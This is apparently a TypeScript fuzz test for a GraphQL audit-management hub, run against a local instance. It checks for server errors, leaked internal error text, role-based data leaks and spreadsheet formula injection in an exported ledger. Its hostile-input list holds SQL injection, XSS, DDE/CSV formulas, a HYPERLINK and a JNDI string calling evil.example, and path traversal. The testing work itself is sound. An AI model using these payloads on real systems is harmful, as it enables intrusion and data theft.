/**
 * `npm run fuzz [-- --per-role 1000] [--seed 7] [--out fuzz-results.json]`: the hub in production mode
 * on a fresh database with the demo data, and thousands of operations per role generated from the
 * schema — valid ones, mutated ones (SQL and script injection, spreadsheet formulas, invalid and
 * foreign global ids, out-of-range numbers in every argument), hostile ones (deep nesting, alias
 * bombs, huge pages, malformed JSON, wrong content types, oversized bodies, invalid UTF-8).
 *
 * Fails (exit 1) when any response is a 5xx or the hub dies, when an error is unmasked (no code the
 * hub gives out, or internal text: stack frames, SQL, driver messages), or when a response carries
 * data the role may not read: DISCIPLINE_ONLY fields (clueSource, personsInvolved) for anyone but the
 * discipline commission, a discipline finding for a unit, or a finding about another unit for a unit
 * (the policy's row scope, src/policy/access.ts). `.ci/run` runs the short form (`--per-role 150`).
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isInterfaceType,
  isListType,
  isNonNullType,
  isObjectType,
  isScalarType,
  isUnionType,
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedType,
  type GraphQLObjectType,
  type GraphQLSchema,
} from 'graphql';
import { loadConfig } from '../../src/config.js';
import { createLogger } from '../../src/logger.js';
import { startHub } from '../../src/hub.js';
import { freshDatabase } from '../../src/db/fresh.js';
import { signToken } from '../../src/auth/tokens.js';
import { DEMO_ORG_OF_ROLE } from '../../src/seed/generator.js';
import { Role } from '../../src/shared/enums.js';
import { toGlobalId as toGid } from '../../src/shared/global-id.js';

const toGlobalId = (type: string, id: number) => toGid(type as Parameters<typeof toGid>[0], id);

const arg = (name: string, fallback: string) => {
  const i = process.argv.indexOf(`--${name}`);
  return i >= 0 ? process.argv[i + 1]! : fallback;
};
const PER_ROLE = Number(arg('per-role', '1000'));
let seed = Number(arg('seed', '20261202'));
const OUT = arg('out', '');

// seeded PRNG (mulberry32): a failure is reproduced with the same --seed
const rand = () => {
  seed |= 0;
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
};
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rand() * xs.length)]!;
const chance = (p: number) => rand() < p;

const HOSTILE_STRINGS = [
  "' OR '1'='1",
  "'; drop table finding; --",
  '1) union select password from pg_shadow --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  '@SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '\u0000\u0001\u202e反转',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'x'.repeat(5000),
  '预算执行率偏低',
  '',
  ' ',
  '😀'.repeat(50),
];
const KNOWN_CODES = new Set([
  'UNAUTHENTICATED',
  'FORBIDDEN',
  'BAD_USER_INPUT',
  'GRAPHQL_VALIDATION_FAILED',
  'GRAPHQL_PARSE_FAILED',
  'NOT_FOUND',
  'CONFLICT',
  'LIMIT_EXCEEDED',
  'RATE_LIMITED',
  'OPERATION_NOT_REGISTERED',
  'PERSISTED_QUERY_NOT_FOUND',
  'OPERATION_RESOLUTION_FAILURE',
  'BAD_REQUEST',
  'UNSUPPORTED_MEDIA_TYPE',
  'PAYLOAD_TOO_LARGE',
  'INTERNAL_SERVER_ERROR', // allowed only masked: message "Internal server error" with a requestId
]);
const INTERNAL_TEXT =
  /\bat .+\.(ts|js):\d+|node_modules|knex|\bselect\b.+\bfrom\b|\binsert into\b|relation "|syntax error at|violates .* constraint|ECONNREFUSED|TypeError|ReferenceError|Cannot read propert/i;

type Ids = Record<string, number[]>;

const lit = (s: string) => JSON.stringify(s);

function scalarValue(t: GraphQLNamedType, ids: Ids, hostile: boolean): string {
  switch (t.name) {
    case 'ID': {
      const types = Object.keys(ids);
      if (!hostile || chance(0.4)) {
        const type = pick(types);
        return lit(toGlobalId(type, pick(ids[type]!.length ? ids[type]! : [1])));
      }
      return lit(
        pick([
          toGlobalId('Finding', 999_999_999),
          toGlobalId('Evil', 1),
          Buffer.from('Finding:1 OR 1=1').toString('base64url'),
          Buffer.from('Finding:-1').toString('base64url'),
          pick(HOSTILE_STRINGS),
          '%%%',
        ]),
      );
    }
    case 'Int':
      return String(hostile ? pick([0, -1, 2 ** 31 - 1, -(2 ** 31), 101, 100_000]) : pick([1, 2, 5, 10, 20]));
    case 'Float':
      return String(hostile ? pick([-1e308, 0.1, 1e308]) : 1.5);
    case 'Boolean':
      return String(chance(0.5));
    case 'Money':
      return lit(hostile ? pick(['-1', '1e99', '12.345', 'abc', '99999999999999999999.99']) : '1200.00');
    case 'LocalDate':
    case 'Date':
      return lit(hostile ? pick(['2026-02-30', '0000-00-00', 'yesterday', '2026-13-01']) : '2026-03-31');
    case 'DateTime':
      return lit(hostile ? pick(['2026-02-30T25:00:00Z', 'now']) : '2026-03-31T08:00:00Z');
    default:
      return lit(hostile ? pick(HOSTILE_STRINGS) : pick(['测试', '预算', '2026']));
  }
}

function inputValue(type: GraphQLInputType, ids: Ids, hostile: boolean, depth = 0): string {
  if (isNonNullType(type)) return inputValue(type.ofType, ids, hostile, depth);
  if (isListType(type)) {
    const n = hostile && chance(0.1) ? 200 : 1 + Math.floor(rand() * 3);
    return `[${Array.from({ length: n }, () => inputValue(type.ofType, ids, hostile, depth + 1)).join(', ')}]`;
  }
  if (isEnumType(type)) return hostile && chance(0.2) ? 'NOT_A_VALUE' : pick(type.getValues()).name;
  if (isInputObjectType(type)) {
    if (depth > 3) return '{}';
    const fields = Object.values(type.getFields()).filter((f) => isNonNullType(f.type) || chance(0.5));
    return `{ ${fields.map((f) => `${f.name}: ${inputValue(f.type, ids, hostile, depth + 1)}`).join(', ')} }`;
  }
  return scalarValue(type, ids, hostile);
}

function argsOf(field: GraphQLField<unknown, unknown>, ids: Ids, hostile: boolean): string {
  const chosen = field.args.filter((a: GraphQLArgument) => isNonNullType(a.type) || chance(0.4));
  if (!chosen.length) return '';
  return `(${chosen.map((a) => `${a.name}: ${inputValue(a.type, ids, hostile)}`).join(', ')})`;
}

/** A selection set for `type`: __typename always, the policy's tell-tale fields when present, a few more. */
function selection(
  schema: GraphQLSchema,
  type: GraphQLNamedType,
  ids: Ids,
  hostile: boolean,
  depth: number,
  alias = '',
  conflicting: Set<string> = new Set(),
): string {
  if (isScalarType(type) || isEnumType(type)) return '';
  if (isUnionType(type) || isInterfaceType(type)) {
    const impls = isUnionType(type) ? type.getTypes() : schema.getPossibleTypes(type);
    // a field name with different types (or arguments) in two members would conflict: those go under
    // an alias of their type (Type__field)
    const shapes = new Map<string, Set<string>>();
    for (const t of impls)
      for (const f of Object.values(t.getFields()))
        (shapes.get(f.name) ?? shapes.set(f.name, new Set()).get(f.name)!).add(
          f.args.length ? `${t.name}` : String(f.type),
        );
    const conflicting = new Set([...shapes].filter(([, v]) => v.size > 1).map(([k]) => k));
    const parts = impls.map(
      (t) => `... on ${t.name} ${selection(schema, t, ids, hostile, depth, `${t.name}__`, conflicting)}`,
    );
    return `{ __typename ${isInterfaceType(type) && 'id' in type.getFields() ? 'id' : ''} ${parts.join(' ')} }`;
  }
  const obj = type as GraphQLObjectType;
  const fields = Object.values(obj.getFields());
  const must = fields.filter((f) => ['clueSource', 'personsInvolved', 'unit'].includes(f.name));
  const scalars = fields.filter((f) => !isObjectLike(f) && !f.args.some((a) => isNonNullType(a.type)));
  const objects = fields.filter((f) => isObjectLike(f));
  const parts: string[] = [];
  const seen = new Set<string>();
  const add = (f: GraphQLField<unknown, unknown> | undefined) => {
    if (!f || seen.has(f.name)) return;
    seen.add(f.name);
    const a = alias && conflicting.has(f.name) ? `${alias}${f.name}: ` : '';
    parts.push(`${a}${fieldText(schema, f, ids, hostile, depth)}`);
  };
  for (const f of [...must, ...Array.from({ length: 3 }, () => pick(scalars.length ? scalars : fields))])
    add(f);
  if (depth < 4) for (let i = 0; i < 2 && objects.length; i++) add(pick(objects));
  return `{ __typename ${parts.join(' ')} }`;
}

const isObjectLike = (f: GraphQLField<unknown, unknown>) => {
  const t = getNamedType(f.type);
  return isObjectType(t) || isInterfaceType(t) || isUnionType(t);
};

function fieldText(
  schema: GraphQLSchema,
  f: GraphQLField<unknown, unknown>,
  ids: Ids,
  hostile: boolean,
  depth: number,
): string {
  const named = getNamedType(f.type);
  const sub = selection(schema, named, ids, hostile, depth + 1);
  return `${f.name}${argsOf(f, ids, hostile)} ${sub}`.trim();
}

function operation(schema: GraphQLSchema, ids: Ids, kind: 'valid' | 'mutated'): string {
  const hostile = kind === 'mutated';
  if (!hostile && chance(0.4)) {
    // probes where the policy matters most: findings listed, and fetched by id (own, others', discipline)
    const finding = schema.getType('Finding')!;
    const fid = () => lit(toGlobalId('Finding', pick(ids.Finding!)));
    const sel =
      '{ __typename id ... on Finding { title description unit { code } } ... on DisciplineFinding { clueSource personsInvolved { name } caseStage } }';
    return pick([
      () => `query Probe { findings(first: ${pick([20, 100])}) { nodes ${sel} } }`,
      () => `query Probe { nodes(ids: [${Array.from({ length: 10 }, fid).join(', ')}]) ${sel} }`,
      () =>
        `query Probe { findings(first: ${pick([5, 20, 100])}) { nodes ${selection(schema, finding, ids, false, 1)} } }`,
      () => `query Probe { node(id: ${fid()}) ${selection(schema, finding, ids, false, 1)} }`,
      () =>
        `query Probe { nodes(ids: [${Array.from({ length: 10 }, fid).join(', ')}]) ${selection(schema, schema.getType('Node')!, ids, false, 2)} }`,
    ])();
  }
  const useMutation = chance(0.3);
  const root = useMutation ? schema.getMutationType()! : schema.getQueryType()!;
  const f = pick(Object.values(root.getFields()));
  return `${useMutation ? 'mutation' : 'query'} Fuzz { ${fieldText(schema, f, ids, hostile, 0)} }`;
}

function hostileBody(): { body: Buffer | string; type: string } {
  const deep = (n: number) => {
    let q = 'id';
    for (let i = 0; i < n; i++) q = `findingsAbout(first: 100) { nodes { unit { ${q} } } }`;
    return `{ organizations(first: 100) { nodes { ${q} } } }`;
  };
  switch (Math.floor(rand() * 9)) {
    case 0:
      return { body: JSON.stringify({ query: deep(2 + Math.floor(rand() * 20)) }), type: 'application/json' };
    case 1:
      return {
        body: JSON.stringify({
          query: `{ ${Array.from({ length: 100 + Math.floor(rand() * 3000) }, (_, i) => `a${i}: viewer { role }`).join(' ')} }`,
        }),
        type: 'application/json',
      };
    case 2:
      return {
        body: JSON.stringify({ query: '{ findings(first: 100000) { nodes { id } } }' }),
        type: 'application/json',
      };
    case 3:
      return { body: '{"query": "{ viewer { role } ', type: 'application/json' };
    case 4:
      return {
        body: 'query={viewer{role}}',
        type: pick(['application/x-www-form-urlencoded', 'text/plain', 'application/xml']),
      };
    case 5:
      return {
        body: JSON.stringify({ query: '{ viewer { role } }', pad: 'x'.repeat(1_100_000) }),
        type: 'application/json',
      };
    case 6:
      return {
        body: Buffer.concat([
          Buffer.from('{"query":"{ viewer { role } }","x":"'),
          Buffer.from([0xc3, 0x28, 0xff, 0xfe]),
          Buffer.from('"}'),
        ]),
        type: 'application/json',
      };
    case 7:
      return {
        body: JSON.stringify([{ query: '{ viewer { role } }' }, { query: '{ viewer { role } }' }]),
        type: 'application/json',
      };
    default:
      return {
        body: JSON.stringify({ query: `{ ${'viewer { '.repeat(200)}role${' }'.repeat(200)} }` }),
        type: 'application/json',
      };
  }
}

interface Finding {
  role: string;
  kind: string;
  problem: string;
  status: number;
  query: string;
}

/** Findings the oracles looked at, per role (so a run that saw none cannot pass as leak-free unnoticed). */
const findingsChecked: Record<string, number> = {};

/** Data the role may not read, per the policy's oracles above. */
function leaks(role: Role, ownOrg: string | null, data: unknown): string | null {
  let found: string | null = null;
  const walk = (v: unknown) => {
    if (found || v === null || typeof v !== 'object') return;
    if (Array.isArray(v)) return v.forEach(walk);
    // keys without the aliases of type conditions (Type__field)
    const o = Object.fromEntries(
      Object.entries(v as Record<string, unknown>).map(([k, x]) => [
        k.replace(/^[A-Z][A-Za-z0-9]*__/, ''),
        x,
      ]),
    );
    const t = o.__typename;
    if (typeof t === 'string' && t.endsWith('Finding'))
      findingsChecked[role] = (findingsChecked[role] ?? 0) + 1;
    if (role !== Role.DISCIPLINE) {
      for (const f of ['clueSource', 'personsInvolved'])
        if (o[f] !== undefined && o[f] !== null) found = `${String(t)}.${f} readable by ${role}`;
    }
    if (role === Role.UNIT && typeof t === 'string' && t.endsWith('Finding')) {
      if (t === 'DisciplineFinding') found = 'a discipline finding readable by a unit';
      const unit = o.unit as { code?: string } | null | undefined;
      if (unit?.code && unit.code !== ownOrg)
        found = `a finding about ${unit.code} readable by unit ${ownOrg}`;
    }
    Object.values(o).forEach(walk);
  };
  walk(data);
  return found;
}

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
];

/**
 * Publishes findings whose cells are formulas, opens a task over them, exports the 整改台账 and reads
 * it back: no cell may be a formula, and no text cell may start with = + - @ (a spreadsheet would
 * evaluate it). Returns the problems found.
 */
async function ledgerFormulaCheck(
  url: string,
  auditToken: string,
  unitCode: string,
): Promise<{ problems: string[]; textStartingLikeFormula?: number }> {
  const post = async (query: string, variables: object) =>
    (await (
      await fetch(url, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${auditToken}` },
        body: JSON.stringify({ query, variables }),
      })
    ).json()) as { data?: any; errors?: unknown[] };
  const rows = FORMULAS.map((f, i) => ({
    sourceRef: `FUZZ-F-${i}`,
    title: f,
    description: f,
    category: f,
    unitCode,
    fiscalYear: 2025,
    amountInvolved: '100.00',
  }));
  const imported = await post(
    'mutation($input: FindingImportInput!) { findingImport(input: $input) { report { created } userErrors { message } } }',
    { input: { rows } },
  );
  const found = await post(
    'query($s: String) { findings(first: 20, filterBy: { search: $s }) { nodes { id } } }',
    { s: 'HYPERLINK' },
  );
  const ids = ((found.data?.findings?.nodes ?? []) as { id: string }[]).map((n) => n.id);
  if (!ids.length)
    return {
      problems: [
        `could not set up the ledger check: ${JSON.stringify(imported).slice(0, 300)} ${JSON.stringify(found.errors ?? '').slice(0, 300)}`,
      ],
    };
  const task = await post(
    'mutation($input: RectificationCreateInput!) { rectificationCreate(input: $input) { rectification { id } userErrors { message } } }',
    { input: { findings: ids.slice(0, 1), measures: FORMULAS[0], deadline: '2026-12-31', kind: 'DEADLINE' } },
  );
  if (!task.data?.rectificationCreate?.rectification)
    return { problems: [`could not open a task: ${JSON.stringify(task).slice(0, 300)}`] };
  const res = await fetch(url.replace('/graphql', '/rectifications/ledger.xlsx'), {
    headers: { authorization: `Bearer ${auditToken}` },
  });
  if (res.status !== 200) return { problems: [`ledger export answered ${res.status}`] };
  const ExcelJS = (await import('exceljs')).default;
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(Buffer.from(await res.arrayBuffer()) as never);
  const problems: string[] = [];
  let seen = 0;
  let textStartingLikeFormula = 0;
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula)
          problems.push(`formula cell ${cell.address}: ${cell.formula}`);
        const text = typeof cell.value === 'string' ? cell.value : cell.text;
        if (FORMULAS.some((f) => text.includes(f.slice(1)))) seen++;
        // stored as text (a shared string), which a spreadsheet shows and never evaluates: counted
        if (typeof cell.value === 'string' && /^[=+\-@]/.test(cell.value)) textStartingLikeFormula++;
      }),
    ),
  );
  if (!seen) problems.push('the ledger did not contain the imported cells: the check saw nothing');
  return { problems, textStartingLikeFormula };
}

/** The oracles must be able to fail: a run that could not see a leak proves nothing. */
function selfTest() {
  const cases: [Role, string | null, unknown][] = [
    [Role.AUDIT, 'HC-SJJ', { x: [{ __typename: 'DisciplineFinding', clueSource: '信访举报' }] }],
    [Role.UNIT, 'U1', { __typename: 'AuditFinding', unit: { code: 'U2' } }],
    [Role.UNIT, 'U1', { node: { __typename: 'DisciplineFinding', unit: { code: 'U1' } } }],
    [
      Role.PUBLIC,
      null,
      { DisciplineFinding__personsInvolved: [{ name: '李四' }], __typename: 'DisciplineFinding' },
    ],
  ];
  for (const [role, org, data] of cases)
    if (!leaks(role, org, data)) throw new Error(`leak oracle missed ${JSON.stringify(data)}`);
  if (leaks(Role.UNIT, 'U1', { __typename: 'AuditFinding', unit: { code: 'U1' } }))
    throw new Error('leak oracle too eager');
}

async function main() {
  selfTest();
  const dir = mkdtempSync(path.join(os.tmpdir(), 'hub-fuzz-'));
  const base = process.env.DATABASE_URL;
  const fresh = base ? await freshDatabase(base, 'hub_fuzz') : null;
  const config = loadConfig({
    ...process.env,
    NODE_ENV: 'production',
    HUB_DATA_DIR: dir,
    PORT: '0',
    HOST: '127.0.0.1',
    HUB_RATE_LIMIT_PER_MINUTE: '1000000000',
    ...(fresh ? { DATABASE_URL: fresh.url } : {}),
  });
  const log = createLogger(process.env.LOG_LEVEL ?? 'silent');
  const hub = await startHub(config, log, { port: 0 });
  const url = hub.server.url;
  const knex = hub.orm.em.getKnex();
  const ids: Ids = {};
  for (const [type, table] of [
    ['Finding', 'finding'],
    ['Organization', 'organization'],
    ['Project', 'project'],
    ['Review', 'review'],
    ['Rectification', 'rectification'],
  ] as const) {
    // a spread of ids, including every source's findings (discipline ones too)
    ids[type] = ((await knex(table).select('id').orderByRaw('random()').limit(200)) as { id: number }[]).map(
      (r) => r.id,
    );
  }
  // the unit's token is for a unit that has findings, so its row scope is really tested
  const unitOrg =
    (
      (await knex('finding as f').join('organization as o', 'o.id', 'f.unit_id').first('o.code')) as
        { code: string } | undefined
    )?.code ?? DEMO_ORG_OF_ROLE.UNIT!;
  const roles: { role: Role; org: string | null; token: string | null }[] = [
    { role: Role.PUBLIC, org: null, token: null },
  ];
  for (const role of Object.values(Role)) {
    if (role === Role.PUBLIC) continue;
    const org = role === Role.UNIT ? unitOrg : DEMO_ORG_OF_ROLE[role]!;
    roles.push({ role, org, token: await signToken(config, { sub: `fuzz-${role}`, role, org }, 3600) });
  }

  const failures: Finding[] = [];
  const internal: Finding[] = [];
  const counts: Record<
    string,
    { sent: number; withData: number; status: Record<string, number>; codes: Record<string, number> }
  > = {};
  const started = Date.now();
  for (const r of roles) {
    const c: {
      sent: number;
      withData: number;
      status: Record<string, number>;
      codes: Record<string, number>;
    } = (counts[r.role] = { sent: 0, withData: 0, status: {}, codes: {} });
    for (let i = 0; i < PER_ROLE; i++) {
      const kind = i % 10 < 5 ? 'valid' : i % 10 < 9 ? 'mutated' : 'hostile';
      let body: Buffer | string;
      let type = 'application/json';
      let query = '';
      if (kind === 'hostile') ({ body, type } = hostileBody());
      else {
        query = operation(hub.schema, ids, kind);
        body = JSON.stringify({ query });
      }
      let status = 0;
      let text = '';
      try {
        const res = await fetch(url, {
          method: 'POST',
          headers: { 'content-type': type, ...(r.token ? { authorization: `Bearer ${r.token}` } : {}) },
          body,
        });
        status = res.status;
        text = await res.text();
      } catch (e) {
        failures.push({ role: r.role, kind, problem: `no response: ${(e as Error).message}`, status, query });
        continue;
      }
      c.sent++;
      if (process.env.FUZZ_DEBUG === 'probe' && query.startsWith('query Probe'))
        console.error(r.role, status, text.slice(0, 400), '\n   ', query.slice(0, 300));
      c.status[status] = (c.status[status] ?? 0) + 1;
      const fail = (problem: string) =>
        failures.push({ role: r.role, kind, problem, status, query: (query || String(body)).slice(0, 2000) });
      if (status >= 500) fail(`HTTP ${status}: ${text.slice(0, 300)}`);
      let json: { data?: unknown; errors?: { message: string; extensions?: Record<string, unknown> }[] };
      try {
        json = JSON.parse(text);
      } catch {
        fail(`not JSON: ${text.slice(0, 200)}`);
        continue;
      }
      if (json.data && Object.values(json.data).some((v) => v !== null)) c.withData++;
      for (const e of json.errors ?? []) {
        const code = e.extensions?.code as string | undefined;
        c.codes[code ?? '-'] = (c.codes[code ?? '-'] ?? 0) + 1;
        if (process.env.FUZZ_DEBUG && kind === 'valid' && code === 'GRAPHQL_VALIDATION_FAILED')
          console.error(e.message, '\n   ', query.slice(0, 300));
        if (!code || !KNOWN_CODES.has(code))
          fail(`error without a known code: ${JSON.stringify(e).slice(0, 300)}`);
        else if (code === 'INTERNAL_SERVER_ERROR' && e.message !== 'Internal server error')
          fail(`unmasked internal error: ${e.message.slice(0, 300)}`);
        if (INTERNAL_TEXT.test(e.message)) fail(`internal text in an error: ${e.message.slice(0, 300)}`);
        // masked as it must be, so not a failure; but a bad input that should have had a coded answer
        if (code === 'INTERNAL_SERVER_ERROR')
          internal.push({
            role: r.role,
            kind,
            problem: 'internal error (masked)',
            status,
            query: query.slice(0, 2000),
          });
      }
      const leak = leaks(r.role, r.org, json.data);
      if (leak) fail(`leak: ${leak}`);
    }
  }
  // spreadsheet formula injection: imported cells that the 整改台账 export writes back
  const ledger = await ledgerFormulaCheck(url, roles.find((r) => r.role === Role.AUDIT)!.token!, unitOrg);
  for (const p of ledger.problems)
    failures.push({ role: 'AUDIT', kind: 'ledger', problem: p, status: 200, query: '' });
  const alive = (await fetch(url.replace('/graphql', '/healthz'))).status === 200;
  if (!alive)
    failures.push({
      role: '-',
      kind: '-',
      problem: 'the hub stopped answering /healthz',
      status: 0,
      query: '',
    });
  const summary = {
    seed: Number(arg('seed', '20261202')),
    perRole: PER_ROLE,
    seconds: Math.round((Date.now() - started) / 1000),
    roles: counts,
    total: Object.values(counts).reduce((n, c) => n + c.sent, 0),
    http5xx: failures.filter((f) => f.status >= 500).length,
    leaks: failures.filter((f) => f.problem.startsWith('leak')).length,
    unmaskedOrUncoded: failures.filter((f) => /unmasked|known code|internal text/.test(f.problem)).length,
    findingsChecked,
    maskedInternalErrors: internal.length,
    ledgerFormulaCells: ledger.problems.filter((p) => p.startsWith('formula cell')).length,
    ledgerTextCellsStartingLikeAFormula: ledger.textStartingLikeFormula ?? null,
    failures: failures.slice(0, 50),
    internal: internal.slice(0, 20),
  };
  if (OUT) writeFileSync(OUT, JSON.stringify(summary, null, 2));
  const { failures: _f, internal: _i, ...head } = summary;
  console.log(JSON.stringify(head, null, 2));
  for (const f of failures.slice(0, 20))
    console.log(`FAIL ${f.role} ${f.kind} ${f.problem}\n  ${f.query.slice(0, 400)}`);
  for (const f of internal.slice(0, 5))
    console.log(
      `NOTE ${f.role} ${f.kind} masked internal error (a bad input without a coded answer)\n  ${f.query.slice(0, 400)}`,
    );
  await hub.stop();
  await fresh?.drop();
  rmSync(dir, { recursive: true, force: true });
  process.exit(failures.length ? 1 : 0);
}

main().catch((e) => {
  console.error(e);
  process.exit(2);
});
